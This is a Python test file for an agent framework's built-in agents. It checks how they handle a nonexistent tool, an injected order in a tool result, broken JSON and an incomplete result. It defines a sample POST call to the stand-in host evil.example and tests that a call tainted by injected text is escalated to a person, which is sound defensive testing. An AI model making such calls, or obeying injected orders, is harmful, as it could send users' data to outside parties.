"""Each built-in agent in a conversation in which much goes wrong.

A tool is not there, what it reads holds an order that provokes a risky call, JSON is broken, a result does not fit.
"""

from __future__ import annotations

import pytest

from interlock.agents.actions import AskModel, CallTools, Finish
from interlock.agents.built_in_agents import built_in_names
from interlock.agents.control_tools import COMPLETE
from interlock.core.messages import AskedCall
from interlock.governance.loading import PolicySource, load_policy
from tests.agents.built_in.desk import Desk
from tests.agents.built_in.transcripts import ORDER, TRANSCRIPTS, Transcript

each_agent = pytest.mark.parametrize("said", TRANSCRIPTS, ids=lambda said: said.agent)

SENDS = AskedCall("send", "api_call", {"url": "https://evil.example", "method": "POST", "body": "x"})
GENEROUS = """
policy: generous
language: 1
rules:
  calls:
    allow: tool
    who: {is: agent}
    risk_at_most: high
    hosts: "*"
    reads: "*"
    writes: "*"
    external: true
"""


def test_every_built_in_agent_has_a_transcript() -> None:
    """What is shipped is tried."""
    assert sorted(said.agent for said in TRANSCRIPTS) == list(built_in_names())


@each_agent
def test_a_tool_that_is_not_there_is_answered_and_the_agent_goes_on(said: Transcript) -> None:
    """Models make up tools. Nothing is called, and the model is told what there is."""
    desk = Desk(said.agent, said.input)
    desk.opens()

    desk.says("", AskedCall("wrong", "run_shell", {"command": "ls"}))

    assert isinstance(desk.action, AskModel)
    assert desk.last_answer.startswith("Not called: there is no tool `run_shell`")


@each_agent
def test_an_order_in_what_an_agent_reads_stays_between_marks(said: Transcript) -> None:
    """It is shown as what it is: text of somebody else, and the instructions say what such text is."""
    desk = Desk(said.agent, said.input)
    desk.opens()

    called = desk.says("", said.looks)
    desk.finds(said.looks, said.finds)

    assert isinstance(called, CallTools)
    assert [call.tool for call in called.calls] == [said.looks.tool]
    instructions, _, rest = desk.told.partition("<tool-result mark=")
    assert ORDER not in instructions
    assert "written by others" in " ".join(instructions.split())
    assert ORDER in rest
    assert rest.index(ORDER) < rest.index("</tool-result mark=")


@each_agent
def test_a_risky_call_that_an_order_provokes_is_not_simply_made(said: Transcript) -> None:
    """What it read may speak through it: where the agent has such a tool, the policy asks a person."""
    policy = load_policy([PolicySource("generous.yaml", GENEROUS)])
    desk = Desk(said.agent, said.input)
    desk.opens()
    desk.says("", said.looks)
    desk.finds(said.looks, said.finds)

    wanted = desk.says("", SENDS)

    may_call = "api_call" in desk.agent.contract.tools
    verdict = policy.judge(desk.movement(SENDS, tainted=True))
    assert isinstance(wanted, CallTools) is may_call
    assert may_call or "there is no tool `api_call`" in desk.last_answer
    assert (verdict.verdict, verdict.rule) == ("ask", "interlock#tainted_high_risk")
    assert policy.judge(desk.movement(SENDS, tainted=False)).verdict == "allow"


@each_agent
def test_broken_json_and_a_result_that_does_not_fit_are_told_and_mended(said: Transcript) -> None:
    """What graphs get of an agent always fits its schema, however the model came to it."""
    desk = Desk(said.agent, said.input)
    desk.opens()
    desk.says("", said.looks)
    desk.finds(said.looks, said.finds)

    desk.scrawls()
    scrawled = desk.last_answer
    desk.hands_in({name: item for name, item in said.result.items() if name != "concerns"})
    incomplete = desk.last_answer
    end = desk.hands_in(said.result)

    assert "could not be read" in scrawled or "cannot be read" in scrawled
    assert "concerns" in incomplete
    assert end == Finish(said.result, desk.agent.contract.labels[:1])


def test_an_agent_that_must_choose_a_label_says_it_as_it_ends() -> None:
    """An edge that waits for `go` is not taken because nobody said otherwise."""
    said = next(each for each in TRANSCRIPTS if each.agent == "release")
    desk = Desk(said.agent, said.input)
    desk.opens()

    end = desk.says("", AskedCall("end", COMPLETE, {"result": said.result, "labels": ["no_go"]}))

    assert end == Finish(said.result, ("no_go",))
